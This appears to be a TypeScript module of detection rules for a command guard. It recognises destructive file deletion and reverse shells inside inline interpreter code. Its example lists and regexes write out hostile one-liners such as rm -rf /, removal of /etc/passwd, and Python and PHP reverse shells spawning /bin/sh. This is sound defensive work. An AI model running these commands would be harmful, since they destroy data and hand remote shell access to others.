// Programs given as text to an interpreter: the well-known destructive calls inside them are recognised.
import type { Call } from "../call.ts";
import type { CommandRule } from "../rule.ts";

const family = "inline";

const INTERPRETERS = [
  "python",
  "python2",
  "python3",
  "pypy",
  "pypy3",
  "node",
  "nodejs",
  "deno",
  "bun",
  "tsx",
  "ts-node",
  "perl",
  "ruby",
  "php",
  "lua",
  "luajit",
  "tclsh",
  "osascript",
  "jrunscript",
  "jjs",
  "groovy",
  "scala",
  "Rscript",
  "julia",
  "irb",
  "awk",
  "gawk",
  "mawk",
  "nawk",
  "powershell",
  "pwsh",
  "cmd",
  "ed",
  "expect",
  "emacs",
  "vim",
  "vi",
];

/** The program text among the arguments, or on standard input. */
function codeOf({ program, args, stdin }: Call): string | undefined {
  const texts = args.map(({ text }) => text);
  if (/^(g|m|n)?awk$/.test(program)) return texts.filter((text) => !text.startsWith("-")).join("\n");
  if (/^(powershell|pwsh|cmd)$/.test(program)) return texts.join(" ");
  const at = texts.findIndex((text) => /^(-[a-zA-Z0-9]*[ceErp]|--eval|--execute|--print|-pe|-ne|-le)$/.test(text) && !/^-[mW]/.test(text));
  const attached = texts.find((text) => /^-e./.test(text) && !/^-e[a-z]?$/.test(text));
  if (at >= 0 && texts[at + 1] !== undefined) return texts.slice(at + 1).join("\n");
  if (attached) return attached.slice(2);
  const readsInput = texts.every((text) => text.startsWith("-"));
  return readsInput && stdin.kind === "text" ? stdin.text : undefined;
}

const SPAWNS =
  /\b(os\.(system|popen|exec[lv]p?e?|spawn\w*)|subprocess\.\w+|child_process|execSync|spawnSync|exec\(|system\(|popen\(|shell_exec|passthru|proc_open|Open3|IO\.popen|Kernel\.|%x|qx|Runtime\.getRuntime|ProcessBuilder|os\.execute|io\.popen|do shell script)/;
const REMOVES =
  /\b(shutil\.rmtree|os\.(remove|unlink|rmdir|removedirs)|Path\([^)]*\)\.(unlink|rmdir)|rmSync|rmdirSync|unlinkSync|fs\.(rm|rmdir|unlink|promises\.rm)\b|rimraf|FileUtils\.(rm|remove)\w*|File\.(delete|unlink)|Dir\.(rmdir|delete)|unlink\s*[(\s]|rmdir\s*\(|remove_tree|rmtree|Remove-Item|del \/|File::Path|deltree|fs\.truncate|os\.truncate)/;
const VITAL =
  /['"`](\/|~|\/\*|\/(etc|usr|bin|home|var|boot|root|lib|sbin|opt|dev|sys|proc|Users|System)(\/[^'"`]*)?|C:\\?.*|\.\.|\.)['"`]|expanduser|homedir\(\)|\bHOME\b|os\.environ\[.HOME/;
const SOCKET =
  /\bsocket\b|fsockopen|TCPSocket|net\.(connect|createConnection|createServer|Socket)|\/inet\/tcp|IO::Socket|use Socket|java\.net\.Socket|Net\.Sockets|TCPClient|require\s*\(?["']net["']/;
const SHELL = /\/bin\/(ba|z|da|k)?sh|cmd\.exe|powershell|\bsh\b["' ]*-i|pty\.spawn|dup2|exec\b|popen|system/;

/** What is longer than this is not read, and so not cleared. */
const LONGEST = 16_384;

/** Shell commands inside quotes in the code are read as commands too. */
const quotedCommands = (code: string): readonly string[] =>
  [...code.matchAll(/(["'`])((?:\\.|(?!\1).){3,400})\1/gs)].map(([, , text]) => text!.replace(/\\(["'`])/g, "$1"));

export const inlineRules: readonly CommandRule[] = [
  {
    id: "inline-destroys",
    family,
    severity: "high",
    why: "The program given here removes files or runs commands that destroy something.",
    instead: "Use plain commands that can be checked, on files inside the work folder.",
    programs: INTERPRETERS,
    find: (call, _, at) => {
      const code = codeOf(call);
      if (code === undefined) return false;
      if (code.length > LONGEST) return `${call.program}: more than can be read`;
      if (
        REMOVES.test(code) &&
        (VITAL.test(code) || /rmtree|recursive|rm_rf|rm_r|remove_tree|rimraf|Recurse|\bglob\b|listdir|readdir|walk\(/.test(code))
      )
        return true;
      if (/^(powershell|pwsh|cmd)$/.test(call.program))
        return /remove-item.*-rec|rd \/s|del \/[sfq]|format [a-z]:|invoke-expression|\biex\b|downloadstring|-enc(odedcommand)?\b|invoke-webrequest.*\|/i.test(
          code,
        );
      const commands = [
        ...quotedCommands(code),
        ...(/%x\{|`/.test(code) ? [code.replace(/^.*?(%x\{|`)/s, "").replace(/[`}].*$/s, "")] : []),
      ];
      if (!SPAWNS.test(code) && !/`[^`]+`/.test(code)) return false;
      return (
        commands.some((text) => /^\s*[\w./]/.test(text) && at.decide?.(text) === "deny") ||
        /\brm\b.{0,20}-[a-z]*r[a-z]*f|['"]rm['"]\s*,\s*['"]-rf/.test(code)
      );
    },
    examples: {
      flags: [
        "python3 -c \"import shutil; shutil.rmtree('/')\"",
        "node -e \"require('fs').rmSync('/',{recursive:true,force:true})\"",
        "python -c \"import os; os.system('rm -rf /')\"",
        "ruby -e '`rm -rf /home/user`'",
        "perl -e 'system(\"rm -rf /\")'",
        "node -e \"require('child_process').execSync('rm -rf /')\"",
        "python3 -c \"import os; os.remove('/etc/passwd')\"",
      ],
      passes: ["python3 -c 'print(1)'", "node -e 'console.log(1)'", "perl -pe 's/a/b/' file", "awk '{print $1}' file", "ruby -e 'puts 1'"],
    },
  },
  {
    id: "inline-reverse-shell",
    family,
    severity: "critical",
    why: "The program given here connects a shell to the network, or escapes into one.",
    instead: "Do not run it.",
    programs: INTERPRETERS,
    find: (call) => {
      const code = codeOf(call);
      return (
        code !== undefined &&
        code.length <= LONGEST &&
        ((SOCKET.test(code) && SHELL.test(code)) || /pty\.spawn|\/inet\/tcp\/|TCPClient/.test(code))
      );
    },
    examples: {
      flags: [
        'python -c \'import socket,subprocess,os;s=socket.socket();s.connect(("h",1));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])\'',
        "python2 -c 'import pty; pty.spawn(\"/bin/sh\")'",
        'php -r \'$s=fsockopen("h",1);exec("/bin/sh -i <&3 >&3 2>&3");\'',
      ],
      passes: ["python -c 'import socket; print(socket.gethostname())'", "node -e 'require(\"net\").connect(80)'"],
    },
  },
];
